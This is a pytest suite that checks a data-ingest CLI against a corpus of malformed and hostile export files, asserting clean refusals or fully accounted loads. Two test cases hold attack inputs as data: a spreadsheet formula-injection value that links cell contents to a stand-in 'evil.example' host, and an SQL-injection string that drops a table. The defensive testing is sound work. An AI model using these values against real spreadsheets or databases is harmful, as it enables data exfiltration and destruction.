"""Hostile input: every malformed export ends in one of two ways, through the real CLI.

Either it is refused (exit 3, one message naming the file and the problem, no traceback,
the warehouse as it was apart from the ledger's 'failed' row), or it loads with its
unreadable rows set aside in ``quar.ingest_rejects`` and its invalid rows in ``quar.rows``,
every row accounted for. Never a crash, a hang or a silently lost row.

Small text cases live in ``tests/data/hostile/``; big or binary ones are generated here.
"""

from __future__ import annotations

import gzip
import io
import random
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import polars as pl
import pytest

from workbench.cli import main

HOSTILE = Path(__file__).parent / "data" / "hostile"
HEADER = "id,first,last,email,created\n"
ROW = "1,Anna,Meyer,anna@example.com,2021-03-01\n"
BASELINE = (
    HEADER + "10,Base,Line,base@example.com,2020-01-01\n11,Base,Two,two@example.com,2020-01-02\n"
)
CONFIG = """
sources:
  people:
    system: crm
    object: contacts
    path: exports/people.csv
    options: {{{options}}}
    columns:
      record_id: id
      first_name: first
      last_name: last
      email: email
      created_at: created
"""


# -- generated cases -----------------------------------------------------------------------
def _big_cell(path: Path) -> None:
    path.write_text(HEADER + ROW + "2," + "x" * 5_000_000 + ",Smith,b@example.com,2021-03-02\n")


def _wide_header(path: Path) -> None:
    extra = [f"extra_{i}" for i in range(2000)]
    path.write_text(
        ",".join(["id", "first", "last", "email", "created", *extra])
        + "\n"
        + ROW.rstrip("\n")
        + ","
        + ",".join("v" for _ in extra)
        + "\n"
    )


def _random_binary(path: Path) -> None:
    path.write_bytes(random.Random(7).randbytes(20_000))


def _gzip_named_csv(path: Path) -> None:
    path.write_bytes(gzip.compress((HEADER + ROW).encode()))


def _parquet(rows: int) -> bytes:
    frame = pl.DataFrame(
        {
            "id": [str(i) for i in range(rows)],
            "first": ["Anna"] * rows,
            "last": ["Meyer"] * rows,
            "email": ["anna@example.com"] * rows,
            "created": ["2021-03-01"] * rows,
        }
    )
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    return buffer.getvalue()


def _truncated_parquet(path: Path) -> None:
    data = _parquet(500)
    path.write_bytes(data[: len(data) // 2])


def _parquet_named_csv(path: Path) -> None:
    path.write_bytes(_parquet(5))


def _directory(path: Path) -> None:
    path.mkdir()


GENERATED: dict[str, Callable[[Path], None]] = {
    "big_cell.csv": _big_cell,
    "wide_header.csv": _wide_header,
    "random_binary.csv": _random_binary,
    "gzip_named.csv": _gzip_named_csv,
    "truncated.parquet": _truncated_parquet,
    "parquet_named.csv": _parquet_named_csv,
    "a_folder.csv": _directory,
    "missing.csv": lambda path: None,
}


# -- the expected outcome of every case ------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """``refused``: a phrase of the error. Else ``loaded`` = (read, loaded, rejected) rows,
    ``quarantined`` rows validation quarantines, ``set_aside`` rows it keeps with a value
    set aside (a bad optional value), ``reason`` a phrase of their reasons (or the field)."""

    file: str
    refused: str | None = None
    loaded: tuple[int, int, int] | None = None
    quarantined: int = 0
    set_aside: int = 0
    reason: str | None = None
    rejects_at: tuple[tuple[int, int], ...] = ()  # (record position, line) of each reject
    literal: tuple[str, str] | None = None  # (raw column, value) kept exactly as written
    options: str = ""
    baseline_exit: int = 0  # of reading the baseline's export again under ``options``

    def __post_init__(self) -> None:
        assert (self.refused is None) != (self.loaded is None), self.file


CASES = [
    Case("empty.csv", refused="is empty (0 bytes)"),
    Case("header_only.csv", refused="has no rows and would replace the current snapshot"),
    Case("whitespace_only.csv", refused="only blank lines and spaces"),
    Case(
        "ragged_rows.csv",
        loaded=(5, 3, 2),
        reason="COLUMNS",
        rejects_at=((2, 3), (4, 5)),
    ),
    Case("unbalanced_quote.csv", refused="starts on line 3 and is never closed"),
    Case(
        "unbalanced_quote.csv",
        options="delimiter: ','",
        refused="starts on line 3 and is never closed",
    ),
    Case("stray_quote.csv", loaded=(3, 3, 0), literal=("first", 'Bo"b')),
    Case("wrong_delimiter.csv", options="delimiter: ','", refused="seems to use '|'"),
    Case("wrong_delimiter.csv", loaded=(2, 2, 0)),  # sniffed when not declared
    Case(
        "latin1_as_utf8.csv",
        loaded=(3, 2, 1),
        reason="INVALID ENCODING",
        rejects_at=((2, 3),),
    ),
    Case("bom.csv", loaded=(2, 2, 0), literal=("id", "1")),
    Case("utf16.csv", loaded=(2, 2, 0), literal=("last", "Ångström")),
    Case("utf16_no_bom.csv", refused="UTF-16 text without a byte order mark"),
    # (the baseline's UTF-8 export is refused when read again as UTF-16)
    Case("utf16_no_bom.csv", options="encoding: utf-16", loaded=(1, 1, 0), baseline_exit=3),
    Case("duplicate_headers.csv", refused="occurs 2 times in the header"),
    Case("missing_required.csv", refused="Column 'id' (mapped to contacts.record_id)"),
    Case("random_binary.csv", refused="is not a text file"),
    Case("parquet_named.csv", refused="is a Parquet file"),
    Case("gzip_named.csv", loaded=(1, 1, 0)),
    Case("truncated_gzip.csv.gz", refused="truncated or damaged gzip"),
    Case("object_not_array.json", refused="a single JSON object, not an array"),
    Case("truncated.json", refused="ends in the middle of a JSON value"),
    Case("empty_array.json", refused="its JSON array is empty"),
    Case("json_scalars.json", refused="element 1 is a number"),
    Case(
        "bad_line.ndjson",
        loaded=(3, 2, 1),
        reason="MALFORMED JSON",
        rejects_at=((2, 2),),
    ),
    Case("truncated.parquet", refused="not a complete Parquet file"),
    Case("not_excel.xlsx", refused="cannot be read as an Excel workbook"),
    Case("big_cell.csv", loaded=(2, 2, 0), set_aside=1, reason="first_name"),
    Case(
        "formula_injection.csv",
        loaded=(3, 3, 0),
        literal=("first", '=HYPERLINK("http://evil.example/?"&A1)'),
    ),
    Case(
        "sql_values.csv",
        loaded=(3, 3, 0),
        literal=("first", "Robert'); DROP TABLE raw.people;--"),
    ),
    Case("impossible_dates.csv", loaded=(4, 4, 0), set_aside=3, reason="created_at"),
    Case("nul_bytes.csv", loaded=(3, 3, 0), literal=("first", "Bo\x00b")),
    Case("header_with_nul.csv", refused="holds control characters such as NUL"),
    Case("wide_header.csv", loaded=(1, 1, 0), literal=("extra_1999", "v")),
    Case("cr_only.csv", loaded=(3, 3, 0), literal=("created", "2021-03-03")),
    Case("crlf.csv", loaded=(3, 3, 0), literal=("created", "2021-03-03")),
    Case("null_tokens.csv", loaded=(4, 4, 0), quarantined=1, reason="record_id: not_nullable"),
    Case("invalid_emails.csv", loaded=(4, 4, 0), set_aside=3, reason="email"),
    Case("duplicate_ids.csv", loaded=(4, 4, 0), quarantined=2, reason="unique"),
    Case("a_folder.csv", refused="is not a file"),
    Case("missing.csv", refused="does not exist"),
    Case("Kunden Übersicht ñ 2024.csv", loaded=(2, 2, 0), literal=("first", "Zoë")),
    Case(
        "blank_lines_multiline.csv",
        loaded=(4, 3, 1),
        reason="TOO MANY COLUMNS",
        rejects_at=((3, 7),),
        literal=("first", "Bob\nthe builder"),
    ),
    Case("lineage_column.csv", refused="uses for lineage"),
    Case(
        "quote_closed_by_a_later_one.csv",
        refused="A quoted value starts on line 3 and runs over 2 lines",
    ),
    Case(  # read from a UTF-8 copy, named as the export in the message
        "quote_closed_by_a_later_one.csv",
        options="encoding: cp1252",
        refused="(Error when sniffing file quote_closed_by_a_later_one.csv.)",
    ),
    Case("unknown_extension.dat", refused="Cannot tell the format"),
]


def case_id(case: Case) -> str:
    return case.file + (f"[{case.options}]" if case.options else "")


# -- running a case --------------------------------------------------------------------------
def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with one loaded and validated export, copied for every case."""
    root = tmp_path_factory.mktemp("baseline")
    (root / "exports").mkdir()
    (root / "exports" / "people.csv").write_text(BASELINE)
    (root / "workbench.yaml").write_text(CONFIG.format(options=""))
    assert main(["ingest", "--project", str(root)]) == 0
    assert main(["validate", "--project", str(root)]) == 0
    return root


def snapshot(warehouse: Path) -> dict[str, list[str]]:
    """Every row of every table, for before/after comparisons."""
    with duckdb.connect(str(warehouse), read_only=True) as con:
        names = con.sql(
            "SELECT schema_name, table_name FROM duckdb_tables() ORDER BY 1, 2"
        ).fetchall()
        return {
            f"{s}.{t}": sorted(map(repr, con.sql(f'SELECT * FROM "{s}"."{t}"').fetchall()))
            for s, t in names
        }


def query(warehouse: Path, sql: str, params: list | None = None) -> list[tuple]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


@pytest.mark.timeout(120)
@pytest.mark.parametrize("case", CASES, ids=case_id)
def test_hostile_export(case: Case, baseline: Path, tmp_path: Path, capsys) -> None:
    project = tmp_path / "p"
    shutil.copytree(baseline, project)
    if case.options:  # the baseline's export read again (or refused) under the case's options
        (project / "workbench.yaml").write_text(CONFIG.format(options=case.options))
        code, out, err = run(capsys, "ingest", "--project", str(project))
        assert code == case.baseline_exit and "Traceback" not in out + err, err
    if case.file in GENERATED:
        export = tmp_path / case.file
        GENERATED[case.file](export)
    else:
        export = HOSTILE / case.file
    warehouse = project / "data" / "warehouse.duckdb"
    before = snapshot(warehouse) if case.refused else {}

    code, out, err = run(
        capsys, "ingest", str(export), "--source", "people", "--project", str(project)
    )

    assert "Traceback" not in out + err
    if case.refused is not None:
        assert_refused(case, export, warehouse, before, code, err)
    else:
        assert code == 0, err
        load_id = assert_loaded(case, warehouse)
        assert_validated(case, project, warehouse, load_id, capsys)


def assert_refused(
    case: Case, export: Path, warehouse: Path, before: dict, code: int, err: str
) -> None:
    assert code == 3, err
    assert err.count("Error:") == 1, err
    message = " ".join(err.split())
    assert export.name in message, message
    assert case.refused in message, message
    assert "Fix:" in message
    after = snapshot(warehouse)
    ledger_before, ledger_after = before.pop("meta.loads"), after.pop("meta.loads")
    assert after == before  # nothing but the ledger changed
    assert len(ledger_after) == len(ledger_before) + 1
    status, error = query(
        warehouse, "SELECT status, error FROM meta.loads ORDER BY load_id DESC LIMIT 1"
    )[0]
    assert status == "failed" and case.refused in " ".join(error.split())


def assert_loaded(case: Case, warehouse: Path) -> int:
    assert case.loaded is not None
    load_id, status, read, loaded, rejected = query(
        warehouse,
        "SELECT load_id, status, rows_read, rows_loaded, rows_rejected FROM meta.loads "
        "ORDER BY load_id DESC LIMIT 1",
    )[0]
    assert status == "loaded"
    assert (read, loaded, rejected) == case.loaded
    assert read == loaded + rejected
    raw_numbers = [
        r[0]
        for r in query(
            warehouse, 'SELECT _row_number FROM raw."people" WHERE _load_id = ?', [load_id]
        )
    ]
    rejects = query(
        warehouse,
        "SELECT row_number, line, error_type FROM quar.ingest_rejects WHERE load_id = ? "
        "ORDER BY row_number",
        [load_id],
    )
    assert len(raw_numbers) == loaded and len(rejects) == rejected
    # every record of the file is either loaded or rejected, at its own position
    assert sorted(raw_numbers + [r[0] for r in rejects]) == list(range(1, read + 1))
    assert all(r[2] for r in rejects)
    if case.rejects_at:
        assert [(r[0], r[1]) for r in rejects] == list(case.rejects_at)
    if case.reason and rejected:
        assert all(case.reason in r[2] for r in rejects), rejects
    if case.literal:
        column, value = case.literal
        found = query(
            warehouse,
            f'SELECT count(*) FROM raw."people" WHERE _load_id = ? AND "{column}" = ?',
            [load_id, value],
        )
        assert found == [(1,)], f"{value!r} not kept literally in {column}"
    return int(load_id)


def assert_validated(case: Case, project: Path, warehouse: Path, load_id: int, capsys) -> None:
    code, out, err = run(capsys, "validate", "--project", str(project))
    assert code == 0, err
    assert "Traceback" not in out + err
    staged = query(warehouse, "SELECT count(*) FROM stg.contacts WHERE _source = 'people'")[0][0]
    valid = query(warehouse, "SELECT count(*) FROM core.contacts WHERE _source = 'people'")[0][0]
    run_id = query(warehouse, "SELECT max(run_id) FROM meta.validation_runs")[0][0]
    reasons = [
        r[0]
        for r in query(
            warehouse,
            "SELECT reasons FROM quar.rows WHERE run_id = ? AND source = 'people' AND load_id = ?",
            [run_id, load_id],
        )
    ]
    assert case.loaded is not None
    assert staged == case.loaded[1]  # the new load is the source's whole snapshot
    assert staged == valid + len(reasons)
    assert len(reasons) == case.quarantined, reasons
    assert all(reasons)
    if case.reason and case.quarantined:
        assert any(case.reason in r for r in reasons), reasons
    set_aside = query(
        warehouse,
        'SELECT DISTINCT row_number, "column" FROM quar.failures WHERE run_id = ? AND '
        "source = 'people' AND load_id = ? AND severity = 'warn'",
        [run_id, load_id],
    )
    assert len(set_aside) == case.set_aside, set_aside
    if case.reason and case.set_aside:
        assert {column for _, column in set_aside} == {case.reason}


def test_the_corpus_is_big_enough() -> None:
    assert len({c.file for c in CASES}) >= 30
    committed = {p.name for p in HOSTILE.iterdir() if not p.name.startswith(".")}
    assert committed <= {c.file for c in CASES}, "a corpus file without a case"
